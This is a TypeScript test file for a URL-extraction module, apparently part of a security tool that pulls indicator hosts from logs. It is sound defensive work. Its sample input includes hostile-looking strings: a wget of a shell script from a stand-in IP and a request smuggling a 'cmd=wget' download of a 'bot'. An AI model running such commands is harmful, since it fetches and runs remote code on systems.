import { findUrls, parseUrl } from './url-candidate';

describe('url-candidate', () => {
  it('finds absolute URLs and cuts trailing punctuation, quotes and semicolons', () => {
    const text =
      'wget "http://198.51.100.9/x.sh"; curl HTTPS://Evil.Example.com/Path?q=1, see (http://a.example.org/b).';
    expect(findUrls(text).map((url) => url.url)).toEqual([
      'http://198.51.100.9/x.sh',
      'https://evil.example.com/Path?q=1',
      'http://a.example.org/b',
    ]);
  });

  it('finds a URL glued to percent-encoded text', () => {
    expect(findUrls('GET /?cmd=wget%20http://203.0.113.5/bot')[0]?.url).toBe(
      'http://203.0.113.5/bot',
    );
  });

  it('reports the host as an address or a domain', () => {
    expect(parseUrl('http://[2001:db8::5]:8080/a')?.host).toMatchObject({ ip: { type: 'ipv6' } });
    expect(parseUrl('https://user@Evil.Example.net:8443/')?.host).toEqual({
      domain: 'evil.example.net',
    });
  });

  it('keeps a URL on a cloud service host but not the host as a domain', () => {
    expect(parseUrl('https://bucket.s3.amazonaws.com/loader.exe')).toMatchObject({
      url: 'https://bucket.s3.amazonaws.com/loader.exe',
      host: null,
    });
  });

  it.each([
    'https://falcon.crowdstrike.com/activity/detections/detail/abc',
    'https://nvd.nist.gov/vuln/detail/CVE-2021-44228',
    'https://vendor.example.com/advisories/2024-01',
    'https://www.virustotal.com/gui/file/abc',
    'http://localhost:5601/app/security',
    'http://web.example.local:8000/app',
    'http://127.0.0.1/x',
  ])('leaves out the reference, console or non-public link %s', (url) => {
    expect(parseUrl(url)).toBeNull();
  });
});
